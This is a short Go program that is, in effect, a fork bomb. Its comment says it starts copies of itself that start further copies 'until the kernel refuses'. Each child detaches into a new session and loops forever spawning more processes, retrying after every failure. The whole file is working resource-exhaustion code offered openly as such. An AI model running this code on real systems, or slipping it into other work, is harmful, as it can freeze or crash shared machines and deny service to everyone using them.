// Starts copies of itself that start copies of themselves, until the kernel refuses.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"time"
)

func multiply() error {
	for {
		child := exec.Command("/proc/self/exe", "child")
		child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := child.Start(); err != nil {
			return err
		}
	}
}

func main() {
	if len(os.Args) > 1 {
		for {
			_ = multiply()
			time.Sleep(time.Millisecond)
		}
	}
	fmt.Println("refused:", multiply())
}
